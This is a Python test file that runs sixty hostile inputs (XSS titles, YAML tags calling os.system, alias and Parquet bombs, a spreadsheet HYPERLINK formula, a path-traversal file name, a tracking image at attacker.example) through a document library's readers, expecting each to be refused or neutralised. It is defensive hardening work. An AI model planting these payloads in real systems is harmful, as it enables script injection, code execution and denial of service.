"""Sixty hostile files, each with its one expected outcome, through the real readers and a whole build."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest

from cnrag_core.config.infer import infer_config
from cnrag_core.config.loader import load_config
from cnrag_core.config.spec import PipelineConfig
from cnrag_core.corpus.document import Corpus
from cnrag_core.corpus.readers import read_bytes
from cnrag_core.errors import CNRagError, ConfigError, CorpusError
from cnrag_core.network import Network, build_network
from tests.hardening import campaign
from tests.hardening.hostile_files import (
    MEGABYTE,
    jsonl,
    parquet,
    parquet_bomb,
    pdf,
    pdf_with_circular_tables,
)
from tests.hardening.watched import watched


@dataclass(frozen=True)
class Hostile:
    """A file: what becomes of it when it is read and built, or the error that refuses it.

    `then` looks at the corpus and its network, or at the configuration where the file is one.
    """

    name: str
    make: Callable[[], bytes]
    refused: str | None = None
    then: Callable[[Corpus, Network], bool] | None = None
    config: Callable[[PipelineConfig], bool] | None = None


def titled(title: str) -> Hostile:
    """Two documents with a hostile title, which must come out as it went in."""
    records = jsonl(
        {"id": "a", "title": title, "text": "coral reefs"}, {"id": "b", "title": "my href", "text": "reefs"}
    )
    return Hostile(
        "a.jsonl",
        lambda: records,
        then=lambda corpus, network: corpus["a"].text("title") == title and "a" in network.node_ids,
    )


def yaml(text: str, *, refused: str | None = None, config: Callable[[PipelineConfig], bool] | None = None) -> Hostile:
    return Hostile("config.yaml", text.encode, refused, config=config)


def table(data: bytes, refused: str | None = None, then: Callable[[Corpus, Network], bool] | None = None) -> Hostile:
    return Hostile("a.csv", lambda: data, refused, then)


def text_is(title: str) -> Callable[[Corpus, Network], bool]:
    return lambda corpus, _: corpus["a"].text("title") == title


SCRIPT = '<img src=x onerror="window.pwned=1">'
COMPONENTS = "similarity:\n  components:\n    - {type: field_embedding, field: title}\n"
SHARE = COMPONENTS + "  min_combined_similarity: "
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{'bcdefghi'[n]}: &{'bcdefghi'[n]} [{','.join(['*' + 'abcdefgh'[n]] * 9)}]\n" for n in range(8)
)
NESTED = {"id": ["a", "b"], "t": ["coral", "reefs"], "m": [{"k": {"l": ["x"]}}, None], "l": [[["p"], []], []]}

FILES: dict[str, Hostile] = {
    # text that is code elsewhere
    "xss: image in a title": titled(SCRIPT),
    "xss: the word that makes tooltips HTML": titled("my href " + SCRIPT),
    "xss: end of a script": titled("</script><script>window.pwned=1</script>"),
    "xss: comment and script": titled("<!--<script>"),
    "xss: address": titled("javascript:window.pwned=1"),
    "xss: frame": titled("<iframe srcdoc='<script>top.pwned=1</script>'></iframe>"),
    "xss: image of Markdown": titled("![t](http://attacker.example/track.png?u=1)"),
    "xss: handler in an attribute": titled('" onmouseover="window.pwned=1'),
    # YAML that runs, unfolds or nests
    "yaml: object": yaml(
        "name: !!python/object/apply:os.system [id]\n", refused="line 1, name: the tag !!python/object"
    ),
    "yaml: name": yaml("name: !!python/name:os.system\n", refused="the tag !!python/name"),
    "yaml: alias bomb": yaml(BOMB, refused="aliases repeat more than 10,000 values"),
    "yaml: value in itself": yaml("a: &x [*x]\n", refused="not complete at this point"),
    "yaml: brackets": yaml("a: " + "[" * 5_000, refused="nested more than 20 levels"),
    "yaml: blocks": yaml("".join(f"{' ' * n}a:\n" for n in range(300)), refused="nested more than 20 levels"),
    # YAML that means something else
    "typing: not a number": yaml(SHARE + ".nan\n", refused="line 4, similarity.min_combined_similarity: "),
    "typing: infinity": yaml(SHARE + ".inf\n", refused="line 4, similarity.min_combined_similarity: "),
    "typing: scientific": yaml(SHARE + "1e-1\n", config=lambda config: config.edges.min_similarity == 0.1),
    "typing: Norway": yaml(COMPONENTS.replace("title", "no"), config=lambda config: config.components[0].name == "no"),
    "typing: leading zero": yaml(SHARE + "010\n", refused="must lie between 0 and 1, got 10"),
    "typing: sixties": yaml(SHARE + "1:30\n", refused="must be a number, got text '1:30'"),
    "typing: quoted number": yaml(SHARE + '"0.4"\n', refused="remove the quotes"),
    "typing: key twice": yaml(SHARE + "0.4\n  min_combined_similarity: 0.9\n", refused="given twice, on lines 4 and 5"),
    # JSON
    "json: deep": Hostile("a.json", lambda: b"[" * 100_000, "a.json, record 1: it is nested too deeply"),
    "json: long number": Hostile(
        "a.json", lambda: b'[{"id":"a","n":' + b"9" * 5_000 + b"}]", "record 1: .* 5,000 digits"
    ),
    "json: not a number": Hostile(
        "a.json",
        lambda: b'[{"id":"a","title":"x","n":NaN},{"id":"b","title":"x","n":-Infinity}]',
        then=lambda corpus, _: corpus["a"].number("n") is None and "count as missing" in " ".join(corpus.warnings),
    ),
    "json: half a character": Hostile(
        "a.json",
        lambda: b'[{"id":"a","title":"\\ud800"},{"id":"b","title":"x"}]',
        then=lambda corpus, _: corpus["a"].text("title") == "\ufffd" and "replaced" in " ".join(corpus.warnings),
    ),
    "json: key twice": Hostile("a.json", lambda: b'[{"id":"a","id":"b"}]', "record 1: the key 'id' appears twice"),
    "json: beyond 63 bits": Hostile(
        "a.json",
        lambda: b'[{"id":"a","title":"x","n":9223372036854775808}]',
        then=lambda corpus, _: corpus["a"].fields["n"] == 2**63,
    ),
    "json: broken off": Hostile(
        "a.json", lambda: b'[{"id":"a","title":"x"},{"id":"b","ti', "a.json, record 2: not valid JSON"
    ),
    "json: fields of a million names": Hostile(
        "a.json",
        lambda: json.dumps([{f"k{n}_{m}": n for m in range(200)} for n in range(100)]).encode(),
        "more than 10,000 different fields",
    ),
    # CSV
    "csv: byte order mark": table(b"\xef\xbb\xbfid,title\na,One\nb,Two\n", then=text_is("One")),
    "csv: UTF-16": table("id,title\na,Éléphant\nb,Two\n".encode("utf-16"), then=text_is("Éléphant")),
    "csv: Latin-1": table(
        "id,title\na,Éléphant à l'été\nb,Forêt brûlée\n".encode("latin-1"),
        then=lambda corpus, _: (
            corpus["a"].text("title") == "Éléphant à l'été" and "a guess" in " ".join(corpus.warnings)
        ),
    ),
    "csv: NUL": table(b"id,title\na,x\x00y\nb,z\n", then=text_is("x\ufffdy")),
    "csv: long cell": table(
        b"id,title\na," + b"x" * 131_073 + b"\nb,z\n", then=lambda corpus, _: len(corpus["a"].text("title")) == 131_073
    ),
    "csv: ragged row": table(b"id,title\na,x\nb,y,z,w\n", "a.csv, line 3: 4 cells were found under 2 columns"),
    "csv: columns of one name": table(
        b"id,title,title\na,x,y\nb,z,w\n",
        then=lambda corpus, _: (
            corpus["a"].fields == {"title": "x", "title_2": "y"} and "two columns" in corpus.warnings[0]
        ),
    ),
    "csv: formulas": table(
        b'id,title\na,"=HYPERLINK(""http://x?""&A1)"\nb,@x\n', then=text_is('=HYPERLINK("http://x?"&A1)')
    ),
    # Parquet
    "parquet: bomb": Hostile("a.parquet", lambda: parquet_bomb(100_000, 100_000), "holds more than 200 MB of text"),
    "parquet: nested types": Hostile(
        "a.parquet",
        lambda: parquet(NESTED),
        then=lambda corpus, _: corpus["a"].fields["m.k.l"] == ["x"] and corpus["a"].fields["l"] == [["p"], []],
    ),
    "parquet: no rows": Hostile("a.parquet", lambda: parquet({"id": [], "t": []}), "there is no document in it"),
    "parquet: broken off": Hostile(
        "a.parquet", lambda: parquet({"id": ["a"]})[:-30], "a.parquet cannot be read as Parquet"
    ),
    # PDF
    "pdf: scan": Hostile("a.pdf", lambda: pdf(None, None), "no text was found on any of its 2 pages"),
    "pdf: password": Hostile("a.pdf", lambda: pdf("Secret", password="x"), "a.pdf: this PDF is (protected|encrypted)"),
    "pdf: broken off": Hostile("a.pdf", lambda: pdf("Trees", "Roots")[:300], "a.pdf: this PDF is damaged"),
    "pdf: no pages": Hostile("a.pdf", pdf, "a.pdf: this PDF has no pages"),
    "pdf: circular": Hostile(
        "a.pdf", pdf_with_circular_tables, then=lambda corpus, _: "Trees drink water" in corpus["page-001"].text("text")
    ),
    # text
    "text: nothing": Hostile("a.txt", bytes, "a.txt is empty"),
    "text: only a mark": Hostile("a.txt", lambda: b"\xef\xbb\xbf", "a.txt is empty"),
    "text: a megabyte on a line": Hostile(
        "a.txt", lambda: b"a" * MEGABYTE, then=lambda corpus, _: sum(len(d.text("text")) for d in corpus) == MEGABYTE
    ),
    "text: both directions": Hostile(
        "a.txt",
        "שלום 😀 abc \u202eevil\u202c عربى e\u0301".encode,
        then=lambda corpus, _: corpus.documents[0].text("text") == "שלום 😀 abc \u202eevil\u202c عربى e\u0301",
    ),
    "text: half a character": Hostile(
        "a.txt",
        lambda: b"coral \xed\xa0\x80 reefs and words enough to be sure of the encoding " * 3,
        then=lambda corpus, _: not re.search("[\ud800-\udfff]", corpus.documents[0].text("text")),
    ),
    # names
    "name: place outside": Hostile(
        "../../etc/evil.csv",
        lambda: b"id,title\na,x\n",
        then=lambda corpus, _: corpus["a"].provenance.file == "evil.csv",
    ),
    "name: image": Hostile(
        "<img src=x onerror=alert(1)>.csv",
        lambda: b"id,title\na,x\n",
        then=lambda corpus, _: corpus.name == "<img src=x onerror=alert(1)>",
    ),
    "name: 300 characters": Hostile(
        "x" * 300 + ".csv", lambda: b"id,title\na,x\n", then=lambda corpus, _: len(corpus["a"].provenance.file) == 80
    ),
    "name: hidden": Hostile(".env", lambda: b"id,title\na,x\nb,y\n", then=lambda corpus, _: corpus.name == ".env"),
    # ids
    "id: twice": Hostile(
        "a.jsonl", lambda: jsonl({"id": "x", "t": "a"}, {"id": "x", "t": "b"}), "id 'x' is used by line 1 and"
    ),
    "id: missing": Hostile(
        "a.jsonl",
        lambda: jsonl({"t": "a"}, {"t": "b"}),
        then=lambda corpus, _: (
            [d.id for d in corpus] == ["doc-00001", "doc-00002"] and "numbered" in " ".join(corpus.warnings)
        ),
    ),
    "id: nothing": Hostile(
        "a.jsonl",
        lambda: b'{"id":null,"t":"a"}\n{"id":NaN,"t":"b"}\n{"id":"x","t":"c"}',
        then=lambda corpus, _: len(corpus) == 3 and "2 records have no id" in " ".join(corpus.warnings),
    ),
    "id: number and text": Hostile(
        "a.jsonl", lambda: b'{"id":1,"t":"a"}\n{"id":"1","t":"b"}', "id '1' is used by line 1 and"
    ),
}
N_FILES = 60


PASSED: list[tuple[str, float]] = []


@pytest.fixture(scope="module", autouse=True)
def _told() -> Iterator[None]:
    yield
    slowest = max(PASSED, key=lambda passed: passed[1], default=("none", 0.0))
    campaign.report("T14", len(PASSED), N_FILES, f"slowest {slowest[0]!r} {slowest[1]:.2f} CPU s", score="inputs")


def test_t14_there_are_sixty_files() -> None:
    assert len(FILES) == N_FILES


def outcome(file: Hostile) -> bool:
    """Whether the file has its expected outcome."""
    if file.name.endswith(".yaml"):
        config = load_config(file.make(), uploaded=True)
        return file.config is not None and file.config(config)
    corpus = read_bytes(file.make(), file.name)
    network = build_network(corpus, infer_config(corpus))
    return file.then is not None and file.then(corpus, network) and len(network.documents) == len(corpus)


@pytest.mark.parametrize("name", FILES)
def test_t14_a_hostile_file_has_its_expected_outcome(name: str) -> None:
    file = FILES[name]
    with watched() as watch:
        if file.refused is None:
            assert outcome(file)
        else:
            wanted: type[CNRagError] = ConfigError if file.name.endswith(".yaml") else CorpusError
            with pytest.raises(wanted, match=file.refused):
                outcome(file)
    PASSED.append((name, watch.cpu))
